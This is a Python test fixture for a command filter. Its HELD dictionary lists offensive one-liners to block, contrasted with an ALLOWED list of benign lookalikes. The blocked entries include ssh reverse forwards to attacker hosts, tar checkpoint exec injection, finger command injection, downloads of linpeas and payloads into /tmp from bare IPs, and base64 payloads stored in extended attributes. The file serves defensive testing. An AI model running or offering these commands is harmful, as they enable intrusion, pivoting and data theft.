"""Offensive-notes leftovers, second wave (session 21, left25).

Known misses from pentest notes the lead listed: a reverse forward opening a port of this machine to
another host (``ssh -R 8080:127.0.0.1:80 attacker``), tar made to run a command
(``--checkpoint-action=exec=sh shell.sh``), another host's shares listed (``showmount -e``, ``smbutil
view``), a login tried on an RDP port (``impacket-rdp_check``), default passwords tried by ``eyewitness
--active-scan``, a command injected through finger (``finger "|/bin/id@HOST"``), clients wrapped in
proxychains (``psql -h`` was read as help), an enumeration script fetched by an interpreter's inline code,
a download into ``/tmp`` from a bare address of the network, trufflehog fed organizations from a list,
subdomains fed to a prober (``subfinder -d D | httpx``; the enumeration alone stays allowed), and a payload
stored encoded in an extended attribute (``xattr -w user.x "<base64>" f``). The variants below
are written for this test, not the measured lines.
"""

HELD = {
    "reverse forward to another host": [
        "ssh -R 8080:127.0.0.1:80 attacker",
        "ssh -R 4444:localhost:4444 -N pivot@relay.example.net",
        "ssh -fNR 8080:localhost:80 kali@10.10.14.3",
        "ssh -p 2222 -R 9000:localhost:9000 ci@203.0.113.40 -N",
        "ssh -o RemoteForward='8080 localhost:80' vps",
    ],
    "tar running a command": [
        "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh *",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "tar -czf b.tgz --checkpoint=10 --checkpoint-action=exec='bash -c \"id\"' .",
        "tar --checkpoint-action exec=id -cf x .",
        "tar --to-command='sh -c id' -xf a.tar",
        "tar -I 'sh -c id' -cf x.tar .",
    ],
    "share listing of another host": [
        "showmount -e 10.10.13.37",
        "showmount --exports nfs.target.example",
        "showmount -a 192.168.1.20",
        "smbutil view //guest@10.0.0.5",
        "smbutil view -g //10.0.0.5",
    ],
    "login tried on an RDP port": [
        "impacket-rdp_check corp/admin:pass@10.0.0.5",
        "rdp_check.py corp/admin@172.16.1.5",
        "python3 rdp_check.py admin:Passw0rd@10.1.1.4",
    ],
    "default passwords tried": [
        "eyewitness -f urls.txt --active-scan",
        "EyeWitness.py --web -f hosts.txt --active-scan --no-prompt",
    ],
    "command injected through finger": [
        'finger "|/bin/id@192.168.0.135"',
        "finger '|/bin/ls -a /@10.0.0.3'",
        "finger \"|/bin/sh -c 'id'@target\"",
    ],
    "client wrapped in proxychains": [
        "proxychains psql -h 10.10.10.5",
        "proxychains4 -q psql -h 172.16.5.20 -U postgres",
        "proxychains mysql -h 10.10.10.8 -u root -p",
    ],
    "enumeration script fetched by inline code": [
        "php -r \"file_put_contents('x.sh', file_get_contents('http://10.10.14.2/LinEnum.sh'));\"",
        "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://10.1.1.3/linpeas.sh', 'l')\"",
        'perl -e \'use LWP::Simple; getstore("http://10.10.14.3/LinEnum.sh", "/dev/shm/e.sh")\'',
        'ruby -e \'require "open-uri"; File.write("les.sh", URI.open("http://h.example/les.sh").read)\'',
    ],
    "download into a temp directory from a bare address": [
        "curl http://10.10.14.3/x -o /tmp/payload",
        "curl -s http://192.168.45.210/shell -o /tmp/s",
        "curl -o /dev/shm/a http://10.10.14.7:8000/a",
        "wget http://172.16.4.2/x -O /var/tmp/payload",
    ],
    "secrets of organizations fed from a list": [
        "curl https://api.github.com/organizations | jq -r .[].login | xargs -I{} trufflehog github --org={}",
        "xargs -a orgs.txt -I{} trufflehog github --org {} --only-verified",
    ],
    "subdomains fed to a prober": [
        "subfinder -d example.com | httpx -silent",
        "subfinder -d target.example -silent | httpx -title -status-code",
        "amass enum -d example.com | httpx -silent",
        "assetfinder --subs-only example.com | httprobe",
        "subfinder -d example.com -silent | tee subs.txt | nuclei -t cves/",
    ],
    "payload hidden in an extended attribute": [
        'xattr -w user.x "IyEvYmluL3NoCmlkCg==" file',
        'xattr -w com.apple.metadata:x "$(base64 < payload.sh)" /tmp/a',
        'setfattr -n user.payload -v "$(base64 -w0 shell.sh)" notes.txt',
        "setfattr -n user.x -v 0sIyEvYmluL3NoCmlkCgppZAo= file",
    ],
}

ALLOWED = [
    "ssh -L 8080:localhost:80 user@host",
    "ssh -N -L 5432:127.0.0.1:5432 dev@db.example.com",
    "ssh -R 8080:localhost:80 localhost",
    "ssh -o ServerAliveInterval=30 user@build.example.com",
    "tar -czf backup.tgz --checkpoint=1000 --checkpoint-action=dot src",
    "tar -cf a.tar --checkpoint=100 --checkpoint-action=echo src",
    "tar -I zstd -cf x.tar.zst src",
    "tar --use-compress-program=pigz -cf x.tgz src",
    "tar -xf a.tar --to-command=md5sum",
    "showmount -e localhost",
    "showmount -e 127.0.0.1",
    "smbutil view //guest@localhost",
    "smbutil statshares -a",
    "eyewitness -f urls.txt --web",
    "finger alice",
    "finger alice@localhost",
    "finger -l",
    "proxychains -h",
    "ngrok -h",
    "php -r \"copy('https://getcomposer.org/installer', 'composer-setup.php');\"",
    "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://example.com/d.csv', 'd.csv')\"",
    "curl http://127.0.0.1:9000/metrics -o /tmp/m",
    "curl http://192.168.1.20:8000/build.tgz -o build.tgz",
    "curl -o /tmp/go.tgz https://go.dev/dl/go1.22.linux-amd64.tar.gz",
    "trufflehog git file://.",
    "trufflehog github --org acme --only-verified",
    'trufflehog github --org "$ORG" --only-verified',
    "subfinder -d example.com",
    "subfinder -silent -d example.com | dnsx -cname",
    "subfinder -version",
    "httpx https://example.com",
    "httpx -m POST https://httpbin.org/post",
    "echo https://example.com | httpx",
    'xattr -w com.apple.quarantine "0081;5e;Safari;" file',
    "xattr -wx com.apple.FinderInfo 0000000000000000040000000000000000000000000000000000000000000000 f",
    "xattr -w user.sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 f",
    'setfattr -n user.comment -v "reviewed" notes.txt',
    'xattr -w user.tag "$(date)" f',
    "xattr -l file",
]
